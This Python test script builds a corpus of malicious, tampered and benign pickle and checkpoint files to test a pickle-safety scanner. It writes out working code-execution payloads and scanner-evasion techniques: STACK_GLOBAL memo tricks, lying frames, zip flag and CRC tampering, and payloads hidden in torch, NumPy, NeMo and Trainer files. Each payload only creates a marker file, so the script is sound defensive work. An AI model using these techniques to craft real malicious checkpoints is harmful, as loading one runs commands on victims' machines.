#!/usr/bin/env python3
"""Writes the malicious-pickle corpus: one file (or folder) per case, each with the safety verdict precdetect must
give and, for a malicious one, the global it must name.

  .venv/bin/python tests/malicious_corpus.py DEST     # DEST/<case> for every case, and DEST/expected.json

Every payload, if it ever ran, would create DEST/PWNED (a shell `touch`, a file `open`, a `mkdir`): the tests
check that nothing did. Payloads cover each dangerous family of docs/security.md and each evasion the scanners'
published bypasses use (../shared/notes/pickle-safety.md, section 5): memo-resolved STACK_GLOBAL, STRING
operands, INST and OBJ, py2 aliases, dotted and dunder names, getattr/importlib/pydoc/inspect chains, BUILD on a
function, appended pickles, a payload before a broken stream, a lying FRAME, an encrypted flag on bytes in the clear, a CRC
mismatch, a duplicate entry, wrong extensions, an extra pickle member, a legacy file whose magic number is the payload, NumPy
object arrays, a Trainer folder whose optimizer.pt carries the payload, and torch.distributed.checkpoint folders whose
.metadata or one of whose object entries carries it; then tampering that names no dangerous
global (a straddled or nested FRAME, BUILD on an allowed function, a STACK_GLOBAL of computed operands). Benign files of every format follow,
written by their real producers (torch.save, safetensors, numpy).
"""

import io
import json
import os
import pickle
import struct
import sys
import tarfile
import zipfile
from pathlib import Path

import numpy as np
import torch
from safetensors.torch import save_file

sys.path.insert(0, str(Path(__file__).resolve().parent))
from pre04_tar import archive, members  # noqa: E402

# ---- a small pickle assembler: opcodes as the pickle module names them (Lib/pickletools.py) ----
PROTO2, PROTO4, STOP, MARK, TUPLE, REDUCE, BUILD = b"\x80\x02", b"\x80\x04", b".", b"(", b"t", b"R", b"b"
EMPTY_DICT, NONE, POP, DUP, MEMOIZE = b"}", b"N", b"0", b"2", b"\x94"


def GLOBAL(module, name):
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def TEXT(text):  # SHORT_BINUNICODE
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def STRING(text):  # protocol 0 quoted STRING
    return b"S'" + text.encode() + b"'\n"


def BINPUT(i):
    return b"q" + bytes([i])


def BINGET(i):
    return b"h" + bytes([i])


STACK_GLOBAL = b"\x93"


def call(callable_ops, *args):
    """callable(*args) with REDUCE; args are opcode strings."""
    return callable_ops + MARK + b"".join(args) + TUPLE + REDUCE


def pickled(*ops, proto=PROTO2):
    return proto + b"".join(ops) + STOP


class Dest:
    marker = "PWNED"


def shell():
    return f"touch {Dest.marker}"


class Reduce:
    """An object whose pickle calls `func(*args)`: how real malicious checkpoints are made."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


def torch_file(payload, **kwargs):
    buffer = io.BytesIO()
    torch.save({"weight": torch.ones(4), "extra": payload}, buffer, **kwargs)
    return buffer.getvalue()


def zip_with(members_list, flag_bits=0):
    """A torch.save-like zip (stored entries) from (name, bytes); flag_bits set on every entry's local and central
    header afterwards (zipfile itself writes no flag it did not set: 0x1 says "encrypted", with the bytes in the
    clear, as picklescan's malicious1_0x1.zip has them)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive_file:
        for name, data in members_list:
            archive_file.writestr(zipfile.ZipInfo(name), data)
    data = bytearray(buffer.getvalue())
    for signature, flags_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(signature)
        while at >= 0:
            struct.pack_into("<H", data, at + flags_at, struct.unpack_from("<H", data, at + flags_at)[0] | flag_bits)
            at = data.find(signature, at + 4)
    return bytes(data)


def torch_members():
    """The members of torch.save({'weight': ones(4)}) with `payload` appended to the model's dict pickle."""
    with zipfile.ZipFile(io.BytesIO(torch_file(None))) as z:
        return [(n, z.read(n)) for n in z.namelist()]


def with_member(extra_name, extra):
    return zip_with(torch_members() + [(extra_name, extra)])


def system_call():
    return pickled(call(GLOBAL("os", "system"), TEXT(shell())))


# ---- malicious cases: (file name, bytes or a writer, expected dangerous global, expected family) ----
def malicious_cases():
    s = shell()
    return {
        # the families
        "os-system": ("x.pkl", system_call(), "os.system", "process"),
        "posix-system": ("x.pkl", pickled(call(GLOBAL("posix", "system"), TEXT(s))), "posix.system", "process"),
        "nt-system": ("x.pkl", pickled(call(GLOBAL("nt", "system"), TEXT(s))), "nt.system", "process"),
        "subprocess-popen": ("x.pkl", pickled(call(GLOBAL("subprocess", "Popen"), MARK + TEXT("touch") + TEXT(Dest.marker) + b"l")),
                             "subprocess.Popen", "process"),
        "subprocess-check-output": ("x.pkl", pickled(call(GLOBAL("subprocess", "check_output"), TEXT(s))),
                                    "subprocess.check_output", "process"),
        "pty-spawn": ("x.pkl", pickled(call(GLOBAL("pty", "spawn"), TEXT(s))), "pty.spawn", "process"),
        "ctypes-cdll": ("x.pkl", pickled(call(GLOBAL("ctypes", "CDLL"), TEXT("libc.so.6"))), "ctypes.CDLL", "process"),
        "builtins-eval": ("x.pkl", pickled(call(GLOBAL("builtins", "eval"), TEXT(f"__import__('os').system('{s}')"))),
                          "builtins.eval", "code_execution"),
        "builtins-exec": ("x.pkl", pickled(call(GLOBAL("builtins", "exec"), TEXT(f"import os; os.system('{s}')"))),
                          "builtins.exec", "code_execution"),
        "py2-builtin-eval": ("x.pkl", pickled(call(GLOBAL("__builtin__", "eval"), TEXT("1"))), "__builtin__.eval",
                             "code_execution"),
        "builtins-module-alias": ("x.pkl", pickled(call(GLOBAL("__builtins__", "exec"), TEXT("1"))),
                                  "__builtins__.exec", "code_execution"),
        "builtins-compile": ("x.pkl", pickled(call(GLOBAL("builtins", "compile"), TEXT("1"), TEXT("f"), TEXT("eval"))),
                             "builtins.compile", "code_execution"),
        "builtins-import": ("x.pkl", pickled(call(GLOBAL("builtins", "__import__"), TEXT("os"))), "builtins.__import__",
                            "code_execution"),
        "builtins-open": ("x.pkl", pickled(call(GLOBAL("builtins", "open"), TEXT(Dest.marker), TEXT("w"))),
                          "builtins.open", "filesystem"),
        "getattr-chain": ("x.pkl", pickled(call(GLOBAL("builtins", "getattr"),
                                                call(GLOBAL("builtins", "__import__"), TEXT("os")), TEXT("system"))),
                          "builtins.getattr", "attribute_access"),
        # getattr(G, 'name') is read as the method G.name only when G is a global of the pickle (or an instance of
        # one) and the name a plain attribute: a dangerous G is unsafe through its own import, and getattr of a
        # dunder or computed name, or of what a call returned (getattr-chain), is a call of getattr.
        "getattr-method-of-a-dangerous-global": ("x.pkl", pickled(call(call(GLOBAL("builtins", "getattr"), call(
            GLOBAL("builtins", "getattr"), GLOBAL("os", "path"), TEXT("os")), TEXT("system")), TEXT(s))),
                                                 "os.path", "process"),
        "getattr-method-of-a-dangerous-instance": ("x.pkl", pickled(call(call(
            GLOBAL("builtins", "getattr"), GLOBAL("subprocess", "Popen") + b")\x81", TEXT("wait")))),
                                                   "subprocess.Popen", "process"),
        "getattr-dunder-name": ("x.pkl", pickled(call(GLOBAL("builtins", "getattr"),
                                                      GLOBAL("torch._utils", "_rebuild_tensor_v2"), TEXT("__globals__"))),
                                "builtins.getattr", "attribute_access"),
        "getattr-computed-name": ("x.pkl", pickled(call(GLOBAL("builtins", "getattr"), GLOBAL("collections", "OrderedDict"),
                                                        call(GLOBAL("builtins", "str"), TEXT("fromkeys")))),
                                  "builtins.getattr", "attribute_access"),
        "importlib-import-module": ("x.pkl", pickled(call(GLOBAL("importlib", "import_module"), TEXT("os"))),
                                    "importlib.import_module", "import_machinery"),
        "pkgutil-resolve-name": ("x.pkl", pickled(call(call(GLOBAL("pkgutil", "resolve_name"), TEXT("os:system")), TEXT(s))),
                                 "pkgutil.resolve_name", "import_machinery"),
        "pydoc-locate": ("x.pkl", pickled(call(call(GLOBAL("pydoc", "locate"), TEXT("os.system")), TEXT(s))),
                         "pydoc.locate", "import_machinery"),
        "inspect-getattr-static": ("x.pkl", pickled(call(GLOBAL("inspect", "getattr_static"), GLOBAL("os", "path"), TEXT("x"))),
                                   "inspect.getattr_static", "attribute_access"),
        "operator-attrgetter": ("x.pkl", pickled(call(GLOBAL("operator", "attrgetter"), TEXT("system"))),
                                "operator.attrgetter", "attribute_access"),
        "operator-methodcaller": ("x.pkl", pickled(call(GLOBAL("_operator", "methodcaller"), TEXT("system"), TEXT(s))),
                                  "_operator.methodcaller", "attribute_access"),
        "functools-partial": ("x.pkl", pickled(call(GLOBAL("functools", "partial"), GLOBAL("os", "system"), TEXT(s))),
                              "functools.partial", "attribute_access"),
        "runpy-run-code": ("x.pkl", pickled(call(GLOBAL("runpy", "_run_code"), TEXT(f"import os; os.system('{s}')"), EMPTY_DICT)),
                           "runpy._run_code", "code_execution"),
        "types-codetype": ("x.pkl", pickled(call(GLOBAL("types", "FunctionType"), NONE, EMPTY_DICT)),
                           "types.FunctionType", "code_execution"),
        "shutil-rmtree": ("x.pkl", pickled(call(GLOBAL("shutil", "rmtree"), TEXT(Dest.marker))), "shutil.rmtree",
                          "filesystem"),
        "io-fileio": ("x.pkl", pickled(call(GLOBAL("_io", "FileIO"), TEXT(Dest.marker), TEXT("w"))), "_io.FileIO",
                      "filesystem"),
        "socket": ("x.pkl", pickled(call(GLOBAL("socket", "create_connection"), MARK + TEXT("127.0.0.1") + b"K\x01" + TUPLE)),
                   "socket.create_connection", "network"),
        "urllib-urlopen": ("x.pkl", pickled(call(GLOBAL("urllib.request", "urlopen"), TEXT("http://127.0.0.1:1/"))),
                           "urllib.request.urlopen", "network"),
        "webbrowser-open": ("x.pkl", pickled(call(GLOBAL("webbrowser", "open"), TEXT("http://127.0.0.1:1/"))),
                            "webbrowser.open", "network"),
        "pickle-loads": ("x.pkl", pickled(call(GLOBAL("pickle", "loads"), b"C" + bytes([len(system_call())]) + system_call())),
                         "pickle.loads", "nested_deserialization"),
        "marshal-loads": ("x.pkl", pickled(call(GLOBAL("marshal", "loads"), b"C\x01\x00")), "marshal.loads",
                          "nested_deserialization"),
        "torch-load-nested": ("x.pkl", pickled(call(GLOBAL("torch", "load"), TEXT("other.pt"))), "torch.load",
                              "nested_deserialization"),
        "torch-load-from-bytes": ("x.pkl", pickled(call(GLOBAL("torch.storage", "_load_from_bytes"), b"C\x01\x00")),
                                  "torch.storage._load_from_bytes", "nested_deserialization"),
        "torch-bottleneck": ("x.pkl", pickled(call(GLOBAL("torch.utils.bottleneck.__main__", "run_cprofile"), TEXT(s), EMPTY_DICT)),
                             "torch.utils.bottleneck.__main__.run_cprofile", "code_execution"),
        "numpy-f2py": ("x.pkl", pickled(call(GLOBAL("numpy.f2py.crackfortran", "getlincoef"), TEXT("1"), EMPTY_DICT)),
                       "numpy.f2py.crackfortran.getlincoef", "code_execution"),
        # the evasions
        "stack-global-memo": ("x.pkl", pickled(TEXT("os") + BINPUT(0) + POP + TEXT("system") + BINPUT(1) + POP
                                               + BINGET(0) + BINGET(1) + STACK_GLOBAL + MARK + TEXT(s) + TUPLE + REDUCE,
                                               proto=PROTO4), "os.system", "process"),
        "stack-global-memoize-dup": ("x.pkl", pickled(TEXT("posix") + MEMOIZE + DUP + POP + TEXT("system") + MEMOIZE
                                                      + STACK_GLOBAL + MARK + TEXT(s) + TUPLE + REDUCE, proto=PROTO4),
                                     "posix.system", "process"),
        "stack-global-string-ops": ("x.pkl", pickled(STRING("os") + STRING("system") + STACK_GLOBAL + MARK + TEXT(s)
                                                     + TUPLE + REDUCE, proto=PROTO4), "os.system", "process"),
        "inst-opcode": ("x.pkl", b"(S'" + s.encode() + b"'\nios\nsystem\n.", "os.system", "process"),
        "obj-opcode": ("x.pkl", pickled(MARK + GLOBAL("os", "system") + TEXT(s) + b"o"), "os.system", "process"),
        "newobj-popen": ("x.pkl", pickled(GLOBAL("subprocess", "Popen") + MARK + TEXT(s) + TUPLE + b"\x81"),
                         "subprocess.Popen", "process"),
        "dotted-name": ("x.pkl", pickled(TEXT("pathlib") + TEXT("os.system") + STACK_GLOBAL + MARK + TEXT(s) + TUPLE + REDUCE,
                                         proto=PROTO4), "pathlib.os.system", "process"),
        "dunder-builtins-through-numpy": ("x.pkl", pickled(call(GLOBAL("builtins", "dict.get"), GLOBAL("numpy", "__builtins__"),
                                                                TEXT("exec"))), "builtins.dict.get", "attribute_access"),
        "build-on-function": ("x.pkl", pickled(GLOBAL("numpy", "prod") + MARK + NONE + EMPTY_DICT + TEXT("a") + TEXT("os")
                                               + b"s" + TUPLE + BUILD + POP + TEXT("os") + TEXT("system") + STACK_GLOBAL
                                               + MARK + TEXT(s) + TUPLE + REDUCE, proto=PROTO4), "os.system", "process"),
        "rebuild-from-type-func": ("x.pkl", pickled(call(GLOBAL("torch._tensor", "_rebuild_from_type_v2"), GLOBAL("os", "system"),
                                                         GLOBAL("torch", "Tensor"), MARK + TEXT(s) + TUPLE, EMPTY_DICT)),
                                   "os.system", "process"),
        "appended-after-stop": ("x.pkl", pickle.dumps({"fine": 1}) + system_call(), "os.system", "process"),
        "payload-then-broken": ("x.pkl", PROTO2 + call(GLOBAL("os", "system"), TEXT(s)) + b"\xff\xfe garbage", "os.system",
                                "process"),
        "frame-length-lies": ("x.pkl", PROTO4 + b"\x95" + struct.pack("<Q", 2) + call(GLOBAL("os", "system"), TEXT(s)) + STOP,
                              "os.system", "process"),
        "legacy-magic-is-payload": ("model.pt", system_call() + pickle.dumps(1001, protocol=2), "os.system", "process"),
        # containers
        "torch-save-reduce": ("model.pt", lambda: torch_file(Reduce(os.system, s)), "posix.system", "process"),
        "torch-legacy-reduce": ("model.bin", lambda: torch_file(Reduce(os.system, s), _use_new_zipfile_serialization=False),
                                "posix.system", "process"),
        "zip-extra-pickle-member": ("model.pt", lambda: with_member("archive/extra.pkl", system_call()), "os.system", "process"),
        "zip-member-no-extension": ("model.pt", lambda: with_member("archive/payload", system_call()), "os.system", "process"),
        "zip-flag-bits": ("model.pt", lambda: zip_with([(n, system_call() if n.endswith("data.pkl") else d)
                                                         for n, d in torch_members()], flag_bits=0x1),
                          "os.system", "process"),
        "zip-duplicate-entry": ("model.pt", lambda: zip_with(torch_members() + [("archive/data.pkl", system_call())]),
                                "os.system", "process"),
        "zip-crc-mismatch": ("model.pt", lambda: crc_broken(torch_file(Reduce(os.system, s))), "posix.system", "process"),
        "wrong-extension": ("weights.txt", lambda: torch_file(Reduce(os.system, s)), "posix.system", "process"),
        "npy-object-array": ("arr.npy", lambda: npy_bytes(np.array([Reduce(os.system, s)], dtype=object)), "posix.system",
                             "process"),
        "npz-deflated-object-array": ("arrs.npz", lambda: npz_bytes(compressed=True, a=np.array([Reduce(os.system, s)], dtype=object),
                                                                    b=np.ones(3)), "posix.system", "process"),
        "pre04-tar-pickle-payload": ("model.tar", lambda: archive({**members({"w": torch.ones(2)}), "pickle": system_call()}),
                                     "os.system", "process"),
        "pre04-tar-sys-info-payload": ("model.tar", lambda: archive({"sys_info": system_call(), **members({"w": torch.ones(2)})}),
                                       "os.system", "process"),
        "nemo-payload": ("model.nemo", lambda: archive({"./model_config.yaml": b"precision: 16\n",
                                                         "./model_weights.ckpt": torch_file(Reduce(os.system, shell()))}),
                         "posix.system", "process"),
        "trainer-optimizer-payload": ("trainer/", trainer_folder, "posix.system", "process"),
        "dcp-metadata-payload": ("dcp/", lambda folder: dcp_folder(folder, metadata_payload=Reduce(os.system, s)),
                                 "posix.system", "process"),
        "dcp-object-entry-payload": ("dcp/", lambda folder: dcp_folder(folder, hook=Reduce(os.system, s)), "posix.system",
                                     "process"),
    }


# ---- tampering: structures no pickler writes, each unsafe by itself (no dangerous global is named) ----
FRAME = b"\x95"


def frame(length):
    return FRAME + struct.pack("<Q", length)


def tampering_cases():
    return {
        # A frame of 3 bytes that GLOBAL runs past: enforcing unpicklers refuse it, CPython's C unpickler before
        # python/cpython#154848 read on (and called what an enforcing reader never sees; here an allowed class).
        "frame-straddled": ("x.pkl", pickled(frame(3) + call(GLOBAL("collections", "OrderedDict")), proto=PROTO4),
                            "frame_straddled"),
        "frame-in-frame": ("x.pkl", pickled(frame(12) + NONE + POP + frame(1) + EMPTY_DICT, proto=PROTO4), "nested_frame"),
        # picklescan's sys_module_override_sploit.pkl sets attributes of torch._utils' rebuild function this way.
        "build-on-allowed-function": ("x.pkl", pickled(GLOBAL("torch._utils", "_rebuild_tensor_v2") + MARK + NONE
                                                       + EMPTY_DICT + TEXT("__module__") + TEXT("os") + b"s" + TUPLE
                                                       + BUILD + POP + EMPTY_DICT), "state_on_code"),
        "stack-global-computed-module": ("x.pkl", pickled(call(GLOBAL("collections", "OrderedDict")) + TEXT("system")
                                                          + STACK_GLOBAL + MARK + TEXT(shell()) + TUPLE + REDUCE,
                                                          proto=PROTO4), "dynamic_import"),
    }


def crc_broken(data):
    """Flips every stored CRC-32 of the archive's central directory: Python's zipfile then refuses the entries."""
    data = bytearray(data)
    at = data.find(b"PK\x01\x02")
    while at != -1:
        data[at + 16:at + 20] = b"\xde\xad\xbe\xef"
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def npy_bytes(array):
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=True)
    return buffer.getvalue()


def npz_bytes(compressed=False, **arrays):
    buffer = io.BytesIO()
    (np.savez_compressed if compressed else np.savez)(buffer, **arrays)
    return buffer.getvalue()


def trainer_folder(folder):
    """An HF Trainer checkpoint folder: safe weights, and an optimizer.pt whose pickle carries the payload."""
    folder.mkdir()
    save_file({"weight": torch.ones(4)}, folder / "model.safetensors")
    torch.save({"state": {}, "param_groups": [], "hook": Reduce(os.system, shell())}, folder / "optimizer.pt")
    torch.save(torch.get_rng_state(), folder / "rng_state.pth")


def dcp_folder(folder, metadata_payload=None, **objects):
    """A torch.distributed.checkpoint folder written by dcp.save in one process: a tensor, a number, and `objects`
    (each saved as a torch.save archive that dcp.load unpickles with weights_only=False); `metadata_payload`, when
    given, rides in the .metadata pickle (as Metadata.planner_data), which dcp.load unpickles with pickle.load."""
    import warnings
    import torch.distributed.checkpoint as dcp
    with warnings.catch_warnings():  # "assuming the intent is to save in a single process"
        warnings.simplefilter("ignore")
        dcp.save({"model": {"weight": torch.ones(4)}, "step": 3, **objects}, checkpoint_id=folder)
    if metadata_payload is not None:
        with open(folder / ".metadata", "rb") as file:
            metadata = pickle.load(file)
        metadata.planner_data = metadata_payload
        with open(folder / ".metadata", "wb") as file:
            pickle.dump(metadata, file)


# ---- benign cases: every format, written by its real producer; each must be `safe` ----
def benign_cases():
    state = {"weight": torch.randn(4, 3), "bias": torch.zeros(3, dtype=torch.bfloat16)}

    def saved(**kwargs):
        buffer = io.BytesIO()
        torch.save(state, buffer, **kwargs)
        return buffer.getvalue()

    def module_state():
        buffer = io.BytesIO()
        torch.save(torch.nn.Linear(3, 2).state_dict(), buffer)
        return buffer.getvalue()

    def safetensors_bytes():
        from safetensors.torch import save
        return save({"weight": torch.ones(3)})

    def nemo():
        buffer, weights = io.BytesIO(), saved()
        with tarfile.open(fileobj=buffer, mode="w") as tar:
            for name, data in [("./model_config.yaml", b"precision: 16\n"), ("./model_weights.ckpt", weights)]:
                info = tarfile.TarInfo(name)
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
        return buffer.getvalue()

    return {
        "benign-safetensors": ("model.safetensors", safetensors_bytes),
        "benign-torch-zip": ("model.pt", saved),
        "benign-torch-legacy": ("model.bin", lambda: saved(_use_new_zipfile_serialization=False)),
        "benign-state-dict-metadata": ("pytorch_model.bin", module_state),
        "benign-pre04-tar": ("model.tar", lambda: archive(members({"w": torch.ones(3)}))),
        "benign-nemo": ("model.nemo", nemo),
        "benign-npy": ("arr.npy", lambda: npy_bytes(np.ones((2, 3), np.float32))),
        "benign-npz-deflated": ("arrs.npz", lambda: npz_bytes(compressed=True, a=np.ones(3), b=np.zeros((2, 2)))),
        "benign-plain-pickle": ("meta.pkl", lambda: pickle.dumps({"lr": 0.1, "steps": [1, 2]})),
        # Protocol 5: many frames, and large bytes written between them (the pickler ends a frame before them).
        "benign-framed-pickle": ("meta.pkl", lambda: pickle.dumps({"steps": list(range(30000)), "blob": b"x" * 200000,
                                                                   "names": ["n" * 70000, "m"]}, protocol=5)),
        "benign-torch-zip-protocol-4": ("model.pt", lambda: saved(pickle_protocol=4)),
        "benign-dcp": ("dcp/", dcp_folder),
    }


def build(dest):
    """Writes every case under `dest`; returns {case: {"path", "verdict", "global", "family"}} ("tampering": its
    kind, for a tampering case, in place of the global and family)."""
    dest = Path(dest)
    dest.mkdir(parents=True, exist_ok=True)
    Dest.marker = str(dest / "PWNED")
    expected = {}
    for case, (name, content, global_name, family) in malicious_cases().items():
        expected[case] = {"path": str(write(dest / case, name, content)), "verdict": "unsafe", "global": global_name,
                          "family": family}
    for case, (name, content, kind) in tampering_cases().items():
        expected[case] = {"path": str(write(dest / case, name, content)), "verdict": "unsafe", "tampering": kind}
    for case, (name, content) in benign_cases().items():
        expected[case] = {"path": str(write(dest / case, name, content)), "verdict": "safe"}
    (dest / "expected.json").write_text(json.dumps(expected, indent=1))
    return expected


def write(folder, name, content):
    folder.mkdir(parents=True, exist_ok=True)
    if name.endswith("/"):
        content(folder / name.rstrip("/"))
        return folder / name.rstrip("/")
    data = content() if callable(content) else content
    (folder / name).write_bytes(data)
    return folder / name


if __name__ == "__main__":
    build(sys.argv[1])
    print(f"wrote the malicious corpus to {sys.argv[1]}")
